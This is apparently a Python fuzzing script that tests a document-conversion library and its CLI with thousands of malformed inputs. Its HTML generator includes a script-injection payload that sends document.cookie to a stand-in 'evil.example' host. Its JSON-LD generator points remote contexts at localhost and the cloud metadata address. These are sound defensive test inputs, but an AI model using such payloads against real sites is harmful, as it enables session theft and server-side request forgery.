"""Fuzz the document path: 10,000 bad inputs mixed with good documents, through the library and the CLI.

Run: ``python bench/fuzz.py [--count 10000] [--seed 1]``. A crash is any exception other than the
expected rejection (``Rejected`` with a one-line reason); a lost document is a good document that did not
convert because it shared a batch with bad ones. Both must be 0.
"""

from __future__ import annotations

import argparse
import json
import random
import shutil
import signal
import sys
import tempfile
import time
import traceback
from collections import Counter
from collections.abc import Callable
from pathlib import Path

from citygraph.pipeline import convert_files

__all__ = ["KINDS", "bad_input", "good_documents", "make_corpus", "run"]

DOCUMENTS_DIR = Path(__file__).resolve().parent.parent / "data" / "documents"
BATCH = 50
BATCH_SECONDS = 30  # a batch taking longer is re-run file by file to find the slow input
FILE_SECONDS = 10  # an input taking longer is reported as a hang (a denial of service)


class _Timeout(Exception):
    pass


def _alarm(_signum: int, _frame: object) -> None:
    raise _Timeout


def _convert(paths: list[Path], seconds: int) -> tuple[list, list]:
    """convert_files under a wall-clock limit (SIGALRM): a hang must not stop the fuzzing."""
    previous = signal.signal(signal.SIGALRM, _alarm)
    signal.alarm(seconds)
    try:
        return convert_files(paths)
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def _random_bytes(rng: random.Random) -> tuple[str, bytes]:
    return ".txt", rng.randbytes(rng.randint(1, 4096))


def _empty(rng: random.Random) -> tuple[str, bytes]:
    return ".txt", rng.choice([b"", b" ", b"\n\n\t  \r\n", b"\xef\xbb\xbf"])


def _binary(rng: random.Random) -> tuple[str, bytes]:
    head = rng.choice([b"\x89PNG\r\n\x1a\n", b"%PDF-1.7\n", b"PK\x03\x04", b"\x7fELF\x02\x01\x01"])
    return rng.choice([".txt", ".html"]), head + b"\x00" * 16 + rng.randbytes(2048)


_PROSE = ("Seoul and Vientiane signed a memorandum of understanding on transport on 5 November 2015. "
          "The mayor of Málaga and the mayor of Płock signed a twinning agreement in Zürich. ")


def _wrong_encoding(rng: random.Random) -> tuple[str, bytes]:
    text = _PROSE * rng.randint(1, 20) + "Café – “quoted” — naïve"
    kind = rng.choice(["latin-1", "cp1252", "utf-16-le", "utf-16-be", "broken-utf8", "mixed"])
    if kind == "broken-utf8":
        data = bytearray(text.encode("utf-8"))
        for _ in range(rng.randint(1, 5)):
            data.insert(rng.randrange(len(data)), rng.choice([0xC3, 0xE2, 0xF0, 0x80, 0xFF]))
        return ".txt", bytes(data)
    if kind == "mixed":
        return ".txt", text.encode("utf-8") + text.encode("cp1252", "replace")
    return ".txt", text.encode(kind, "replace")


def _html_script(rng: random.Random) -> tuple[str, bytes]:
    script = rng.choice(["alert(1)", "while(true){}", "document.write('<p>Seoul signed</p>')",
                         "</script><script>fetch('http://evil.example/?'+document.cookie)</script>"])
    body = "".join(f"<p>{_PROSE}</p>" for _ in range(rng.randint(0, 3)))
    page = (f"<!DOCTYPE html><html><head><script>{script}</script><style>p{{}}</style></head>"
            f"<body onload=\"{script}\"><iframe src='javascript:{script}'></iframe>{body}"
            f"<img src=x onerror=\"{script}\"><svg><script>{script}</script></svg></body></html>")
    return ".html", page.encode()


def _nested(rng: random.Random) -> tuple[str, bytes]:
    depth = rng.choice([1000, 5000, 10_000])
    tag = rng.choice(["div", "span", "b", "table"])
    closing = f"</{tag}>" * rng.choice([0, depth])
    page = "<html><body>" + f"<{tag}>" * depth + _PROSE + closing + "</body></html>"
    return ".html", page.encode()


def _long_line(rng: random.Random) -> tuple[str, bytes]:
    unit = rng.choice(["a", "Seoul ", _PROSE, "x" * 99 + " "])
    return ".txt", (unit * (rng.randint(100_000, 1_000_000) // len(unit))).encode()


def _rdf_syntax(rng: random.Random) -> tuple[str, bytes]:
    return rng.choice([
        (".ttl", b"@prefix cg: <https://w3id.org/citygraph/ontology#> .\n<a> cg:party <b> ;; ] .\n"),
        (".ttl", b"<http://a> <http://b> \"unterminated .\n"),
        (".nt", b"<a> <b> <c>\n"),
        (".jsonld", b"{\"@id\": \"http://a\", \"http://b\": [1, 2,"),
        (".rdf", b"<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'><rdf:Description>"),
    ])


def _remote_context(rng: random.Random) -> tuple[str, bytes]:
    url = rng.choice(["http://127.0.0.1:9/context.jsonld", "https://example.invalid/ctx",
                      "http://169.254.169.254/latest/meta-data/"])
    doc = rng.choice([{"@context": url, "@id": "http://a", "name": "x"},
                      {"@context": [url, {"x": "http://x/"}], "@id": "http://a"},
                      [{"@context": {"@import": url}, "@id": "http://a"}]])
    return ".jsonld", json.dumps(doc).encode()


def _random_text(rng: random.Random) -> tuple[str, bytes]:
    alphabet = "abcdefghij KLMNOP.,;:'\"<>{}[]()\n\t0123456789é漢字ü—\u200b\u202e"
    return ".txt", "".join(rng.choice(alphabet) for _ in range(rng.randint(1, 3000))).encode()


KINDS: dict[str, Callable[[random.Random], tuple[str, bytes]]] = {
    "random-bytes": _random_bytes, "empty": _empty, "binary": _binary, "wrong-encoding": _wrong_encoding,
    "html-script": _html_script, "nested-markup": _nested, "long-line": _long_line, "rdf-syntax": _rdf_syntax,
    "jsonld-remote-context": _remote_context, "random-text": _random_text,
}
_WEIGHTS = {"random-bytes": 20, "empty": 5, "binary": 10, "wrong-encoding": 20, "html-script": 10,
            "nested-markup": 2, "long-line": 0.2, "rdf-syntax": 10, "jsonld-remote-context": 6,
            "random-text": 15}


def bad_input(rng: random.Random) -> tuple[str, str, bytes]:
    kind = rng.choices(list(_WEIGHTS), list(_WEIGHTS.values()))[0]
    suffix, data = KINDS[kind](rng)
    return kind, suffix, data


def good_documents() -> list[Path]:
    """The project's documents that convert on their own (the baseline a batch must not spoil)."""
    paths = sorted(p for p in DOCUMENTS_DIR.iterdir() if p.suffix in (".txt", ".html"))
    converted, _rejected = convert_files(paths)
    ok = {c.source.rsplit("/", 1)[-1] for c in converted}
    return [p for p in paths if p.name in ok]


def make_corpus(directory: Path, count: int, seed: int, good_every: int = 20) -> list[tuple[Path, str]]:
    """``count`` bad inputs (one of them 50 MB) with a good document after every ``good_every``."""
    rng = random.Random(seed)
    good = good_documents()
    corpus: list[tuple[Path, str]] = []
    huge = directory / "bad-huge.txt"
    with open(huge, "wb") as handle:
        chunk = (_PROSE * 200).encode()
        for _ in range(50_000_000 // len(chunk) + 1):
            handle.write(chunk)
    corpus.append((huge, "huge"))
    for i in range(count - 1):
        kind, suffix, data = bad_input(rng)
        path = directory / f"bad-{i:05d}-{kind}{suffix}"
        path.write_bytes(data)
        corpus.append((path, kind))
        if i % good_every == 0:
            source = good[(i // good_every) % len(good)]
            copy = directory / f"good-{i:05d}-{source.name}"
            shutil.copyfile(source, copy)
            corpus.append((copy, "good"))
    rng.shuffle(corpus)
    return corpus


def run(corpus: list[tuple[Path, str]], batch: int = BATCH) -> dict[str, object]:
    """Convert the corpus in batches; count crashes and good documents lost."""
    crashes: list[str] = []
    hangs: list[str] = []
    lost: list[str] = []
    rejected = Counter()
    converted_bad = Counter()
    for start in range(0, len(corpus), batch):
        items = corpus[start:start + batch]
        try:
            converted, rejections = _convert([p for p, _ in items], BATCH_SECONDS)
        except Exception as error:
            if not isinstance(error, _Timeout):
                crashes.append(f"batch {start}: {traceback.format_exc(limit=2).splitlines()[-1]}")
            converted, rejections = [], []
            for path, kind in items:  # isolate the culprit; the rest still count
                began = time.perf_counter()
                timed_out = False
                try:
                    c, r = _convert([path], FILE_SECONDS)
                    converted += c
                    rejections += r
                except _Timeout:
                    timed_out = True
                    hangs.append(f"{path.name} ({kind}, {path.stat().st_size:,} B): > {FILE_SECONDS} s")
                except Exception as error:
                    crashes.append(f"{path.name}: {type(error).__name__}: {str(error)[:120]}")
                if not timed_out and time.perf_counter() - began > FILE_SECONDS / 2 and kind != "good":
                    hangs.append(f"{path.name} ({kind}): {time.perf_counter() - began:.1f} s")
        done = {c.source.rsplit("/", 1)[-1] for c in converted}
        for r in rejections:
            if "\n" in r.reason:
                crashes.append(f"{r.source}: multi-line rejection")
            if r.reason.startswith("converter failed"):  # the batch survived, but it is still a bug
                crashes.append(f"{r.source}: {r.reason}")
        for path, kind in items:
            if kind == "good" and path.name not in done:
                lost.append(path.name)
            elif kind != "good":
                (converted_bad if path.name in done else rejected)[kind] += 1
    return {"inputs": len(corpus), "crashes": crashes, "hangs": hangs, "lost": lost,
            "rejected": dict(rejected), "converted_bad": dict(converted_bad)}


def cli_sample(corpus: list[tuple[Path, str]], directory: Path, size: int = 40) -> dict[str, object]:
    """A sample through ``citygraph convert`` and ``citygraph validate`` (typer's CliRunner)."""
    from typer.testing import CliRunner

    from citygraph.cli import app

    runner = CliRunner()
    small = [(p, k) for p, k in corpus if k not in ("huge", "long-line", "nested-markup", "random-text")]
    bad = [p for p, k in small if k in ("random-bytes", "empty", "binary", "wrong-encoding")][:size]
    good = [p for p, k in small if k == "good"][:5]
    out = directory / "cli-out.ttl"
    result = runner.invoke(app, ["convert", *map(str, bad + good), "-o", str(out)])
    problems = []
    if result.exit_code != 3:
        problems.append(f"convert exit {result.exit_code}, expected 3")
    if "Traceback" in result.output or result.exception and not isinstance(result.exception, SystemExit):
        problems.append("convert printed a traceback")
    rejected_lines = [line for line in result.output.splitlines() if line.startswith("rejected ")]
    if len(rejected_lines) < len(bad):
        problems.append(f"convert: {len(rejected_lines)} rejection lines for {len(bad)} bad files")
    validated = 0
    for path, kind in small:
        if kind in ("rdf-syntax", "jsonld-remote-context") and validated < size:
            validated += 1
            r = runner.invoke(app, ["validate", str(path)])
            lines = [line for line in r.output.splitlines() if line.strip()]
            if r.exit_code != 2 or len(lines) != 1 or "Traceback" in r.output:
                problems.append(f"validate {path.name}: exit {r.exit_code}, {len(lines)} lines")
    return {"convert_files": len(bad) + len(good), "validate_files": validated, "problems": problems}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--count", type=int, default=10_000)
    parser.add_argument("--seed", type=int, default=1)
    args = parser.parse_args()
    with tempfile.TemporaryDirectory(prefix="citygraph-fuzz-") as tmp:
        start = time.perf_counter()
        corpus = make_corpus(Path(tmp), args.count, args.seed)
        result = run(corpus)
        cli = cli_sample(corpus, Path(tmp))
        seconds = time.perf_counter() - start
    goods = sum(1 for _, k in corpus if k == "good")
    print(f"inputs: {result['inputs']} ({args.count} bad incl. one 50 MB file, {goods} good) "
          f"in {seconds:.0f} s")
    print(f"crashes: {len(result['crashes'])}")
    for line in result["crashes"][:20]:
        print(f"  {line}")
    print(f"hangs (> {FILE_SECONDS} s for one input, reported, not crashes): {len(result['hangs'])}")
    for line in result["hangs"][:20]:
        print(f"  {line}")
    print(f"lost good documents: {len(result['lost'])}")
    for line in result["lost"][:20]:
        print(f"  {line}")
    print("rejected by kind: " + ", ".join(f"{k} {v}" for k, v in sorted(result["rejected"].items())))
    print("bad inputs that converted anyway (no crash; text that decodes): "
          + (", ".join(f"{k} {v}" for k, v in sorted(result["converted_bad"].items())) or "none"))
    print(f"CLI sample: convert of {cli['convert_files']} files, "
          f"validate of {cli['validate_files']} RDF files: "
          + ("ok" if not cli["problems"] else "; ".join(cli["problems"][:10])))
    sys.exit(1 if result["crashes"] or result["lost"] or cli["problems"] else 0)


if __name__ == "__main__":
    main()
